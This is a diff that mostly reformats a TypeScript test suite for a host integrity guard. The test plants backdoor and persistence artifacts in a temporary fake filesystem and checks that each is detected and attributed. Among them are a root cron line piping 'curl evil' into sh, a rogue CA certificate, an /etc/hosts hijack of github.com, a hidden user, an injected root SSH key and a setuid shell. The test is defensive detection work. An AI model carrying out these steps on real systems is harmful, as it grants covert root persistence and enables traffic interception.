@@ -18,7 +18,18 @@ import { createLogger } from '../../../src/lib/log.js';
 import type { GuardJob } from '../../../src/lib/job-guard.js';
 import { buildHostTree } from './host-tree.js';
 
-const FILE_SURFACES = ['etc', 'usr-local', 'opt-srv', 'root-home', 'authorized-keys', 'cron', 'systemd', 'setuid', 'accounts', 'package-state'] as const;
+const FILE_SURFACES = [
+  'etc',
+  'usr-local',
+  'opt-srv',
+  'root-home',
+  'authorized-keys',
+  'cron',
+  'systemd',
+  'setuid',
+  'accounts',
+  'package-state',
+] as const;
 const ctx = { log: createLogger({ level: 'silent' }), signal: AbortSignal.timeout(60_000) };
 const RUNNER = { name: 'runneru', uid: 4242, gid: 4242 };
 
@@ -29,7 +40,14 @@ function policy(edit: (p: Policy) => void = () => {}): Policy {
   return p;
 }
 
-async function world(): Promise<{ root: string; tree: string; stateDir: string; guard: IntegrityGuard; job: GuardJob; dispose(): Promise<void> }> {
+async function world(): Promise<{
+  root: string;
+  tree: string;
+  stateDir: string;
+  guard: IntegrityGuard;
+  job: GuardJob;
+  dispose(): Promise<void>;
+}> {
   const root = await mkdtemp(path.join(os.tmpdir(), 'rw-integrity-'));
   const tree = path.join(root, 'host');
   await mkdir(tree);
@@ -38,7 +56,13 @@ async function world(): Promise<{ root: string; tree: string; stateDir: string; 
   const excluded = [t.runnerRoot, t.stateDir];
   await takeSystemBaseline({ root: tree, stateDir, surfaces: FILE_SURFACES, excluded, user: RUNNER, netfilter: false });
   const guard = new IntegrityGuard({ root: tree, stateDir, excluded, user: RUNNER, netfilter: false });
-  const job: GuardJob = { key: 'job-1', dir: path.join(root, 'job'), user: { ...RUNNER, home: '/home/runneru' }, runnerRoot: t.runnerRoot, stateDir };
+  const job: GuardJob = {
+    key: 'job-1',
+    dir: path.join(root, 'job'),
+    user: { ...RUNNER, home: '/home/runneru' },
+    runnerRoot: t.runnerRoot,
+    stateDir,
+  };
   return { root, tree, stateDir, guard, job, dispose: () => rm(root, { recursive: true, force: true }) };
 }
 
@@ -53,17 +77,32 @@ const sh = (script: string): void => {
 
 /** Each plant: what to do under the tree T, and the objects the report must name. */
 const PLANTS: { name: string; plant: (T: string) => Promise<void>; expect: string[] }[] = [
-  { name: 'a cron.d file', plant: (T) => writeFile(`${T}/etc/cron.d/backdoor`, '* * * * * root curl evil | sh\n'), expect: ['etc: /etc/cron.d/backdoor added'] },
+  {
+    name: 'a cron.d file',
+    plant: (T) => writeFile(`${T}/etc/cron.d/backdoor`, '* * * * * root curl evil | sh\n'),
+    expect: ['etc: /etc/cron.d/backdoor added'],
+  },
   {
     name: 'an enabled systemd unit (systemctl --root enable)',
     plant: async (T) => {
-      await writeFile(`${T}/etc/systemd/system/persist.service`, '[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c "sleep 1d"\n[Install]\nWantedBy=multi-user.target\n');
+      await writeFile(
+        `${T}/etc/systemd/system/persist.service`,
+        '[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c "sleep 1d"\n[Install]\nWantedBy=multi-user.target\n',
+      );
       sh(`systemctl --root=${T} enable persist.service`);
     },
     expect: ['etc: /etc/systemd/system/persist.service added', 'etc: /etc/systemd/system/multi-user.target.wants/persist.service added'],
   },
-  { name: '/etc/ld.so.preload', plant: (T) => writeFile(`${T}/etc/ld.so.preload`, '/usr/local/lib/evil.so\n'), expect: ['etc: /etc/ld.so.preload added'] },
-  { name: 'a profile.d script', plant: (T) => writeFile(`${T}/etc/profile.d/zz-evil.sh`, 'export PATH=/var/tmp:$PATH\n'), expect: ['etc: /etc/profile.d/zz-evil.sh added'] },
+  {
+    name: '/etc/ld.so.preload',
+    plant: (T) => writeFile(`${T}/etc/ld.so.preload`, '/usr/local/lib/evil.so\n'),
+    expect: ['etc: /etc/ld.so.preload added'],
+  },
+  {
+    name: 'a profile.d script',
+    plant: (T) => writeFile(`${T}/etc/profile.d/zz-evil.sh`, 'export PATH=/var/tmp:$PATH\n'),
+    expect: ['etc: /etc/profile.d/zz-evil.sh added'],
+  },
   {
     name: 'a shadowed git in /usr/local/bin',
     plant: async (T) => {
@@ -75,12 +114,24 @@ const PLANTS: { name: string; plant: (T: string) => Promise<void>; expect: strin
   {
     name: 'a CA in /usr/local/share/ca-certificates and update-ca-certificates',
     plant: async (T) => {
-      sh(`openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=evil-ca -days 2 -keyout /dev/null -out ${T}/usr/local/share/ca-certificates/evil.crt 2>/dev/null`);
-      sh(`update-ca-certificates --certsconf ${T}/etc/ca-certificates.conf --localcertsdir ${T}/usr/local/share/ca-certificates --etccertsdir ${T}/etc/ssl/certs --hooksdir ${T}/etc/ca-certificates/update.d >/dev/null 2>&1`);
+      sh(
+        `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=evil-ca -days 2 -keyout /dev/null -out ${T}/usr/local/share/ca-certificates/evil.crt 2>/dev/null`,
+      );
+      sh(
+        `update-ca-certificates --certsconf ${T}/etc/ca-certificates.conf --localcertsdir ${T}/usr/local/share/ca-certificates --etccertsdir ${T}/etc/ssl/certs --hooksdir ${T}/etc/ca-certificates/update.d >/dev/null 2>&1`,
+      );
     },
-    expect: ['usr-local: /usr/local/share/ca-certificates/evil.crt added', 'etc: /etc/ssl/certs/evil.pem added', 'etc: /etc/ssl/certs/ca-certificates.crt modified'],
+    expect: [
+      'usr-local: /usr/local/share/ca-certificates/evil.crt added',
+      'etc: /etc/ssl/certs/evil.pem added',
+      'etc: /etc/ssl/certs/ca-certificates.crt modified',
+    ],
   },
-  { name: 'an /etc/hosts line', plant: (T) => appendFile(`${T}/etc/hosts`, '203.0.113.9 github.com\n'), expect: ['etc: /etc/hosts modified'] },
+  {
+    name: 'an /etc/hosts line',
+    plant: (T) => appendFile(`${T}/etc/hosts`, '203.0.113.9 github.com\n'),
+    expect: ['etc: /etc/hosts modified'],
+  },
   {
     name: 'a sudoers.d drop-in',
     plant: async (T) => {
@@ -89,8 +140,20 @@ const PLANTS: { name: string; plant: (T: string) => Promise<void>; expect: strin
     },
     expect: ['etc: /etc/sudoers.d/runneru added'],
   },
-  { name: 'a new user (useradd -P)', plant: async (T) => sh(`useradd -P ${T} -u 4711 -M -s /bin/bash sneaky`), expect: ['accounts: user:sneaky added', 'etc: /etc/passwd modified', 'etc: /etc/shadow modified'] },
-  { name: 'a root authorized_keys line', plant: (T) => appendFile(`${T}/root/.ssh/authorized_keys`, 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilKeyxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx evil\n'), expect: ['root-home: /root/.ssh/authorized_keys modified'] },
+  {
+    name: 'a new user (useradd -P)',
+    plant: async (T) => sh(`useradd -P ${T} -u 4711 -M -s /bin/bash sneaky`),
+    expect: ['accounts: user:sneaky added', 'etc: /etc/passwd modified', 'etc: /etc/shadow modified'],
+  },
+  {
+    name: 'a root authorized_keys line',
+    plant: (T) =>
+      appendFile(
+        `${T}/root/.ssh/authorized_keys`,
+        'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilKeyxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx evil\n',
+      ),
+    expect: ['root-home: /root/.ssh/authorized_keys modified'],
+  },
   {
     name: 'a setuid shell in /var/tmp',
     plant: async (T) => {
@@ -99,8 +162,16 @@ const PLANTS: { name: string; plant: (T: string) => Promise<void>; expect: strin
     },
     expect: ['setuid: /var/tmp/.x added'],
   },
-  { name: 'a user crontab', plant: (T) => writeFile(`${T}/var/spool/cron/crontabs/root`, '@reboot /var/tmp/.x\n', { mode: 0o600 }), expect: ['cron: /var/spool/cron/crontabs/root added'] },
-  { name: 'a lingering user', plant: (T) => writeFile(`${T}/var/lib/systemd/linger/runneru`, ''), expect: ['systemd: /var/lib/systemd/linger/runneru added'] },
+  {
+    name: 'a user crontab',
+    plant: (T) => writeFile(`${T}/var/spool/cron/crontabs/root`, '@reboot /var/tmp/.x\n', { mode: 0o600 }),
+    expect: ['cron: /var/spool/cron/crontabs/root added'],
+  },
+  {
+    name: 'a lingering user',
+    plant: (T) => writeFile(`${T}/var/lib/systemd/linger/runneru`, ''),
+    expect: ['systemd: /var/lib/systemd/linger/runneru added'],
+  },
   {
     name: 'a changed unit with its mtime set back (ctime gives it away)',
     plant: async (T) => {
@@ -122,15 +193,21 @@ test('each root-level plant is reported by name, with who likely made it, and it
       expected.push(...c.expect);
       const lines = await driftAfterJob(w);
       for (const e of expected) {
-        assert.ok(lines.some((l) => l.startsWith(e)), `${c.name}: no "${e}" in the report:\n${lines.join('\n')}`);
+        assert.ok(
+          lines.some((l) => l.startsWith(e)),
+          `${c.name}: no "${e}" in the report:\n${lines.join('\n')}`,
+        );
       }
-      assert.ok(lines.every((l) => /\(.+\)$/.test(l)), `${c.name}: a line without attribution: ${lines.join('\n')}`);
+      assert.ok(
+        lines.every((l) => /\(.+\)$/.test(l)),
+        `${c.name}: a line without attribution: ${lines.join('\n')}`,
+      );
     }
     const forensics = integrityPaths(w.stateDir).forensics;
     const kept = execFileSync('find', [forensics, '-type', 'f', '-name', 'backdoor'], { encoding: 'utf8' }).trim().split('\n')[0] ?? '';
     assert.ok(kept, 'the planted cron.d file was not copied into the forensics directory');
     assert.equal((await readFile(kept, 'utf8')).includes('curl evil'), true);
-    assert.equal((execFileSync('stat', ['-c', '%a', forensics], { encoding: 'utf8' }).trim()), '700', 'forensics must be root-only');
+    assert.equal(execFileSync('stat', ['-c', '%a', forensics], { encoding: 'utf8' }).trim(), '700', 'forensics must be root-only');
   } finally {
     await w.dispose();
   }
@@ -149,13 +226,20 @@ test('a root change inside a job with sudo granted is attributed to the job thro
   }
 });
 
-test('a benign job and the agent\'s own writes show zero drift over 100 checks', async () => {
+test("a benign job and the agent's own writes show zero drift over 100 checks", async () => {
   const w = await world();
   try {
     const p = policy((x) => (x.runner.sudo = 'allow'));
     const T = w.tree;
     await mkdir(`${T}/etc/sudoers.d`, { recursive: true });
-    await takeSystemBaseline({ root: T, stateDir: w.stateDir, surfaces: FILE_SURFACES, excluded: ['/opt/runner'], user: RUNNER, netfilter: false });
+    await takeSystemBaseline({
+      root: T,
+      stateDir: w.stateDir,
+      surfaces: FILE_SURFACES,
+      excluded: ['/opt/runner'],
+      user: RUNNER,
+      netfilter: false,
+    });
     for (let i = 0; i < 100; i++) {
       // The job's own files (workspace, temp, home), a rewrite of /etc/hosts with the same bytes,
       // resolv.conf churn, the sudo drop-in written and removed, files in the runner root.
@@ -191,7 +275,10 @@ test('a missing, tampered, loosened or foreign baseline is a finding that names 
     await chmod(file, 0o600);
     await writeFile(`${w.tree}/etc/machine-id`, 'another0image0000000000000000002\n');
     const other = (await w.guard.verify(undefined, p, ctx)).map((f) => f.problem);
-    assert.ok(other.some((l) => /another image: machine id: baseline fixture0machine0id000000000000001, host another0image/.test(l)), other.join('\n'));
+    assert.ok(
+      other.some((l) => /another image: machine id: baseline fixture0machine0id000000000000001, host another0image/.test(l)),
+      other.join('\n'),
+    );
     await rm(file);
     assert.match((await w.guard.verify(undefined, p, ctx))[0]?.problem ?? '', /system baseline missing: .*runner-warden baseline/);
   } finally {
